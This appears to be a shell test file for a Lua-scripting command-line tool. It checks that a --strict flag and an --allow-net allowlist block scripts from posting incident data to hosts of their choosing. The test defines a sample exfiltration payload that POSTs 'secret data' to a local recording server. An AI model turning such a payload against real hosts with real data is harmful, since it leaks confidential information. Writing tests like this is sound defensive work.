# Exfiltration under --strict: a script must not POST incident data to a host of its choice.
# Under --strict `http` reaches only hosts named by --allow-net / VSRUN_ALLOW_NET; given
# without --strict, the list restricts too. The far end records every byte it receives.
. "$(dirname "$0")/../cli/lib.sh"
FAR_PIDS=()
start_far_end() {   # DIR: sets FAR_PORT
    mkdir -p "$1"
    python3 tests/abuse/far_end.py "$1" &
    FAR_PIDS+=("$!")
    for _ in $(seq 200); do [ -s "$1/port" ] && break; sleep 0.05; done
    FAR_PORT=$(cat "$1/port")
}
trap 'for p in "${FAR_PIDS[@]}"; do kill "$p" 2>/dev/null; done; rm -rf "$TMP"' EXIT
unset VSRUN_ALLOW_NET http_proxy https_proxy
start_far_end "$TMP/far"
FAR="http://127.0.0.1:$FAR_PORT"
received() { cat "$TMP/far"/conn-* 2>/dev/null | grep -ac "POST /collect"; }
EXFIL='return require("http").post("'"$FAR"'/collect", { json = { incident = "secret data" } }).status'

run -e "$EXFIL"
expect "without --strict or --allow-net the post goes out (control)" 0 '^200$'
[ "$(received)" = 1 ] && echo "ok the far end counts what reaches it (control)" || _fail "control: far end" "got $(received)"

for mode in "--strict" "--strict --dry-run"; do
    run $mode -e "$EXFIL"
    expect "$mode: http is refused with permission_denied (exit 4)" 4 '' \
        "permission_denied: http: network access to 127.0.0.1:$FAR_PORT is not allowed under --strict: allow it with --allow-net 127.0.0.1:$FAR_PORT"
done
[ "$(received)" = 1 ] && echo "ok nothing reached the far end under --strict" || _fail "strict sent" "the far end got $(received) posts"

run --strict --allow-net "127.0.0.1:$FAR_PORT" -e "$EXFIL"
expect "--allow-net host:port grants that origin" 0 '^200$'
run --strict --allow-net example.com --allow-net=127.0.0.1 -e "$EXFIL"
expect "--allow-net is repeatable; a host without a port allows every port" 0 '^200$'
VSRUN_ALLOW_NET="example.com,127.0.0.1:$FAR_PORT" run --strict -e "$EXFIL"
expect "VSRUN_ALLOW_NET grants too" 0 '^200$'
[ "$(received)" = 4 ] && echo "ok the granted posts arrived" || _fail "granted" "the far end got $(received) posts"

run --strict --allow-net "127.0.0.1:1" -e "$EXFIL"
expect "another port of the host is not granted" 4 '' 'not allowed: it is not in --allow-net'
run --allow-net example.com -e "$EXFIL"
expect "--allow-net without --strict restricts too" 4 '' 'permission_denied: .*add --allow-net 127.0.0.1:'
run --allow-net= -e "$EXFIL"
expect "an empty --allow-net allows nothing" 4 '' 'not in --allow-net'
run --strict -e '
  local ok, err = pcall(require("http").get, "'"$FAR"'/x")
  return { kind = err.kind, url = err.url }'
expect "the refusal is an error object a script can catch" 0 '"kind": "permission_denied"'
[ "$(received)" = 4 ] && echo "ok refused requests sent nothing" || _fail "refused sent" "the far end got $(received) posts"

run --allow-net "https://example.com/x" -e 1
expect "a URL is not an --allow-net entry (usage error)" 2 '' "--allow-net entry 'https://example.com/x' is not host or host:port"
VSRUN_ALLOW_NET="bad host" run -e 1
expect "a bad VSRUN_ALLOW_NET is a usage error" 2 '' 'in VSRUN_ALLOW_NET'

# The pagerduty module and the sandbox control API are not affected by --strict's default.
run --sandbox --strict -e '
  local pd, sb = require "pagerduty", require "vsrun.sandbox"
  local n = 0
  for _ in pd.list_incidents { limit = 2 } do n = n + 1 end
  return { n = n, control = sb.counts().total > 0 }'
expect "--strict leaves pagerduty and the sandbox control API working" 0 '"control": true'
